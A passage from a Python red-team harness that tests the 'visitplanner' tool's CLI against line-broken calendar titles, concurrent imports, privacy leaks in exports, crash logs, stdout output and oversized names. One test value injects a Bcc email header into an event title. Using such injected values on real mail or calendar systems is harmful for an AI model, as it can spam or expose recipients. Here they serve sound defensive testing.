        attack = judge(category, name, run, kept=[visit], visits=[visit], check=said_where)
        if attack.verdict == "lost" and "naming the line" in attack.detail:
            attack.verdict = "other"
        if run.code == 2 and "line" not in run.stderr:
            attack = Attack(
                category, name, "other", f"refusal without a line number\n{run.shown()}"
            )
        attacks.append(attack)
    return attacks


def send_updates(lab: Lab, quick: bool) -> list[Attack]:
    """send-updates with titles that hold line breaks (ordinary in ICS)."""
    category = "send-updates with line breaks"
    titles = {
        "a line break": "Dîner\\nrevised",
        "a header injection": "Dîner\\nBcc: everyone@example.org",
        "CR LF": "Dîner\\r\\nrevised",
    }
    if quick:
        titles = dict(list(titles.items())[:1])
    attacks = []
    for name, title in titles.items():
        visit = lab.visit("updates")
        lab.run("version", str(visit))
        cal = _retitled(lab, visit, title)
        imported = lab.run("import-ics", str(visit), str(cal))
        out = visit.with_name("updates")
        run = lab.run("send-updates", str(visit), "--since", "1", "-o", str(out))

        def mails(o: Path = out, i: Run = imported) -> str | None:
            if i.code != 0:
                return f"the calendar did not import: {i.shown()}"
            sent = list(o.glob("**/*.eml"))
            if not sent or not list(o.glob("**/*.ics")):
                return f"no .eml or no .ics written: {sorted(p.name for p in o.rglob('*'))}"
            for path in sent:
                message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
                if message.defects or "Bcc" in message:
                    return f"{path.name}: {message.defects or 'a Bcc header'}"
            return None

        attacks.append(judge(category, name, run, visits=[visit], check=mails))
    return attacks


def _retitled(lab: Lab, visit: Path, title: str) -> Path:
    """A calendar giving the demo's working meeting (which people attend) a new title,
    as another program's calendar would, matched by the UID of our own export."""
    from icalendar import Calendar

    export = visit.with_name("own.ics")
    lab.run("export-ics", str(visit), "-o", str(export))
    meeting = demo_event("meeting")
    for event in Calendar.from_ical(export.read_bytes()).walk("VEVENT"):
        if meeting in str(event["UID"]):
            break
    else:
        raise SystemExit("the demo's meeting is not in its calendar")
    start, end = event.decoded("DTSTART"), event.decoded("DTEND")
    return calendar(
        visit.with_name("c.ics"),
        f"UID:{event['UID']}\r\nDTSTART:{start.astimezone(UTC):%Y%m%dT%H%M%S}Z\r\n"
        f"DTEND:{end.astimezone(UTC):%Y%m%dT%H%M%S}Z\r\nSUMMARY:{title}\r\n",
    )


def concurrent(lab: Lab, quick: bool) -> list[Attack]:
    """Two and three imports of the same roster at once add its people once."""
    category = "concurrent imports"
    sheet = lab.place("concurrent") / "r.csv"
    write_csv(sheet, sheet_rows(300, seed=11))
    attacks = []
    for at_once in (2, 3) * (1 if quick else 3):
        visit = lab.visit("concurrent")
        before = people_count(visit)
        children = [lab.start("import-roster", str(visit), str(sheet)) for _ in range(at_once)]
        said = [child.communicate(timeout=TIMEOUT) for child in children]
        codes = [child.returncode for child in children]
        problem = visit_problem(visit)
        count = people_count(visit) if problem is None else -1
        name = f"{at_once} imports at once"
        if any("internal error" in err for _out, err in said) or set(codes) - {0, 2}:
            attacks.append(Attack(category, name, "internal", f"exits {codes}: {said}"))
        elif problem or count != before + 300:
            attacks.append(
                Attack(category, name, "lost", problem or f"{count} people, not {before + 300}")
            )
        else:
            attacks.append(Attack(category, name, "clean", f"exits {codes}, {count} people"))
    return attacks


def privacy(lab: Lab, quick: bool) -> list[Attack]:
    """No private field's value in a shareable export."""
    from visitplanner.demo import build_demo
    from visitplanner.domain.privacy import is_private

    category = "privacy of shareable exports"
    data = build_demo()
    secrets: set[str] = set()
    for entity in [*data.people, *data.venues]:
        for name, value in _fields(entity):
            if is_private(type(entity), name):
                secrets.update(_texts(value))
    secrets = {s for s in secrets if len(s) >= 6}
    visit = lab.visit("privacy")
    exports = [
        ("export-ics", ["export-ics", str(visit), "-o"], ".ics"),
        ("export-roster CSV", ["export-roster", str(visit), "-o"], ".csv"),
        ("export-roster XLSX", ["export-roster", str(visit), "-o"], ".xlsx"),
        ("briefing", ["briefing", str(visit), "-o"], ".pdf"),
        ("export-ics --per-person", ["export-ics", str(visit), "--per-person", "-o"], ""),
    ]
    if quick:
        exports = exports[:2]
    attacks: list[Attack] = []
    for name, args, suffix in exports:
        out = visit.with_name(f"shared-{len(attacks)}{suffix}")
        run = lab.run(*args, str(out))

        def leaks(o: Path = out) -> str | None:
            text = _text_of(o)
            found = sorted(s for s in secrets if s in text)
            return f"private values in a shareable export: {found[:3]}" if found else None

        attacks.append(judge(category, name, run, visits=[visit], check=leaks))
    return attacks


def _fields(entity: object) -> list[tuple[str, object]]:
    from dataclasses import fields

    return [(f.name, getattr(entity, f.name)) for f in fields(entity)]  # type: ignore[arg-type]


def _texts(value: object) -> set[str]:
    """The texts a private field's value holds (nested records and dates too)."""
    if value is None or value == "":
        return set()
    if isinstance(value, str):
        return {value[:30]}
    if hasattr(value, "__dataclass_fields__"):
        out: set[str] = set()
        for _name, inner in _fields(value):
            out |= _texts(inner)
        return out
    if isinstance(value, (list, tuple, set, frozenset)):
        return set().union(*(_texts(v) for v in value)) if value else set()
    if hasattr(value, "isoformat"):
        return {value.isoformat()}
    return set()


def _text_of(path: Path) -> str:
    """The text of an export (every file of a folder), unfolded and extracted."""
    if path.is_dir():
        return "\n".join(_text_of(p) for p in sorted(path.rglob("*")) if p.is_file())
    raw = path.read_bytes()
    if path.suffix == ".pdf":
        from pypdf import PdfReader

        return "\n".join(page.extract_text() or "" for page in PdfReader(path).pages)
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        book = load_workbook(path, read_only=True)
        cells = [
            str(c)
            for s in book.worksheets
            for row in s.iter_rows(values_only=True)
            for c in row
            if c is not None
        ]
        book.close()
        return "\n".join(cells)
    return (
        raw.decode("utf-8", "replace").replace("\r\n ", "").replace("\\,", ",").replace("\\;", ";")
    )


def crash_logs(lab: Lab, quick: bool) -> list[Attack]:
    """The crash logs written during the run (if any) hold none of the names used."""
    category = "crash logs"
    from visitplanner.demo import build_demo

    names = {n for n in lab.names_used if len(n) >= 5}
    names |= {p.family_name for p in build_demo().people if len(p.family_name) >= 5}
    logs = [p for p in (lab.folder / "state").rglob("*") if p.is_file()]
    attacks = []
    for log in logs:
        text = log.read_text(encoding="utf-8", errors="replace")
        found = sorted(n for n in names if n in text)
        mode = stat.S_IMODE(log.stat().st_mode)
        if found or mode & 0o077:
            attacks.append(Attack(category, log.name, "lost", f"names {found[:3]}, mode {mode:o}"))
        else:
            attacks.append(Attack(category, log.name, "clean"))
    if not logs:
        attacks.append(Attack(category, "no crash log written in the whole run", "clean"))
    return attacks


#: The categories in the order of the table; crash logs last (they read what the
#: others left).
def standard_output(lab: Lab, quick: bool) -> list[Attack]:
    """`-o -`: a text format or a redirected PDF goes whole to standard output, and
    nothing else; what cannot go there (a folder of files, a visit) is refused."""
    category = "standard output"
    visit = lab.visit("stdout")

    def parsed(
        run: Run, read: Callable[[Path], str | None], suffix: str
    ) -> Callable[[], str | None]:
        def check() -> str | None:
            out = visit.with_name(f"out{suffix}")
            out.write_bytes(run.stdout.encode("utf-8", "surrogateescape"))
            if (visit.parent / "-").exists():
                return "a file named '-' was written"
            return read(out)

        return check

    attacks = []
    for command, read, suffix in (
        ("export-ics", read_ics, ".ics"),
        ("export-roster", read_csv, ".csv"),
        (
            "export-json",
            lambda p: None if json.loads(p.read_text())["people"] else "empty",
            ".json",
        ),
    )[: 1 if quick else None]:
        run = run_keeping(lab, [visit], command, str(visit), "-o", "-")
        attacks.append(
            judge(category, command, run, visits=[visit], check=parsed(run, read, suffix))
        )
    if not quick:
        pdf = visit.with_name("book.pdf")
        with pdf.open("wb") as out:
            child = subprocess.run(
                [sys.executable, "-m", "visitplanner", "briefing", str(visit), "-o", "-"],
                stdout=out,
                stderr=subprocess.PIPE,
                env=lab.env,
                cwd=ROOT,
                timeout=TIMEOUT,
                check=False,
            )
        run = Run(
            ["briefing", "-o", "-"], child.returncode, "", child.stderr.decode(), 0.0, 0.0, False
        )
        attacks.append(judge(category, "briefing to a pipe", run, check=lambda: read_pdf(pdf)))
    for name, args in (
        ("calendars per person", ["export-ics", str(visit), "--per-person", "-o", "-"]),
        ("a visit from JSON", ["import-json", str(visit), "-o", "-"]),
        ("the demo", ["demo", "-"]),
    ):
        run = run_keeping(lab, [visit], *args)
        attacks.append(judge(category, name, run, kept=[visit], visits=[visit], refuse=True))
    return attacks


def long_text_in_documents(lab: Lab, quick: bool) -> list[Attack]:
    """A visit that already holds 3,000- and 10,000-character names and functions (a
    file written before the limits, or by another program): every document is made."""
    import dataclasses

    from visitplanner.demo import build_demo
    from visitplanner.domain.lookup import find_person
    from visitplanner.services.visit_files import write_visit

    category = "long text in documents"
    attacks = []
    for length in (3000,) if quick else (3000, 10_000):
        data = build_demo()
        minister = find_person(data, "Kalmykova")
        spaced = " ".join(["Zaporizka"] * (length // 10))
        data.people[data.people.index(minister)] = dataclasses.replace(
            minister,
            family_name="K" * length,
            family_name_native="К" * length,
            title=minister.title.replace("fr", spaced),
        )
        visit = lab.place("long") / "v.visit"
        write_visit(visit, data)
        for name, args, out in (
            ("briefing book", ["briefing", str(visit), "-o"], "book.pdf"),
            (
                "minister's pack",
                ["briefing", str(visit), "--person", minister.id, "-o"],
                "pack.pdf",
            ),
            ("place cards", ["seating", str(visit), demo_event("meal"), "-o"], "cards.pdf"),
            ("ceremony sheet", ["ceremony", str(visit), demo_event("ceremony"), "-o"], "c.pdf"),
        ):
            target = visit.with_name(out)
            run = run_keeping(lab, [visit], *args, str(target), timeout=TIMEOUT * 3)
            attacks.append(
                judge(
                    category,
                    f"{name}, {length} characters",
                    run,
                    visits=[visit],
                    check=lambda t=target: read_pdf(t),
                )
            )
    return attacks


CATEGORIES: dict[str, Callable[[Lab, bool], list[Attack]]] = {
    "kills": kills,
    "bad-files": bad_visit_files,
    "outputs": outputs,
    "backups": backups,
    "hostile-text": hostile_text,
    "file-names": file_names,
    "xml": xml_attacks,
    "oversized": oversized,
    "dates": absurd_dates,
    "send-updates": send_updates,
    "concurrent": concurrent,
    "privacy": privacy,
    "standard-output": standard_output,
    "long-text": long_text_in_documents,
    "crash-logs": crash_logs,
}


@dataclass
class Row:
    """One line of the table."""

    category: str
    counts: dict[str, int] = field(default_factory=lambda: dict.fromkeys(VERDICTS, 0))


def table(attacks: Sequence[Attack]) -> list[Row]:
    """The attacks counted by category and verdict, in the order they ran."""
    rows: dict[str, Row] = {}
    for attack in attacks:
        rows.setdefault(attack.category, Row(attack.category)).counts[attack.verdict] += 1
    return list(rows.values())


def print_table(attacks: Sequence[Attack]) -> None:
    """The table in Markdown, then every attack that was not clean."""
    print("| category | tried | clean | internal error | lost | hang | other |")
    print("| --- | ---: | ---: | ---: | ---: | ---: | ---: |")
    for row in table(attacks):
        c = row.counts
        print(
            f"| {row.category} | {sum(c.values())} | {c['clean']} | {c['internal']} | "
            f"{c['lost']} | {c['hang']} | {c['other']} |"
        )
    total = {v: sum(a.verdict == v for a in attacks) for v in VERDICTS}
    print(
        f"| **all** | **{len(attacks)}** | **{total['clean']}** | **{total['internal']}** | "
        f"**{total['lost']}** | **{total['hang']}** | **{total['other']}** |"
    )
    for attack in attacks:
        if attack.verdict != "clean":
            print(f"\n[{attack.verdict}] {attack.category}: {attack.name}\n  {attack.detail}")


def run_all(folder: Path, quick: bool, only: Sequence[str] | None = None) -> list[Attack]:
    """Run the categories (all, or `only`) in a lab in `folder`; the attacks."""
    lab = Lab(folder)
    attacks: list[Attack] = []
    for key, category in CATEGORIES.items():
        if only and key not in only:
            continue
        start = time.perf_counter()
        found = category(lab, quick)
        attacks.extend(found)
        bad = sum(a.verdict != "clean" for a in found)
        print(
            f"{key}: {len(found)} attacks, {bad} not clean, {time.perf_counter() - start:.0f} s",
            file=sys.stderr,
            flush=True,
        )
    return attacks


def main(argv: list[str] | None = None) -> int:
    """Run the attacks; print the table; exit 1 unless every attack was clean."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="a few attacks per category")
    parser.add_argument("--only", choices=list(CATEGORIES), action="append")
    parser.add_argument("--keep", type=Path, help="keep the lab (visits, outputs) in this folder")
    args = parser.parse_args(argv)
    start = time.perf_counter()
    if args.keep:
        args.keep.mkdir(parents=True, exist_ok=True)
        attacks = run_all(args.keep, args.quick, args.only)
    else:
        with tempfile.TemporaryDirectory(prefix="visitplanner-redteam-") as folder:
            attacks = run_all(Path(folder), args.quick, args.only)
    print_table(attacks)
    print(f"\n{len(attacks)} attacks in {time.perf_counter() - start:.0f} s.")
    return 0 if all(a.verdict == "clean" for a in attacks) else 1


if __name__ == "__main__":
    sys.exit(main())
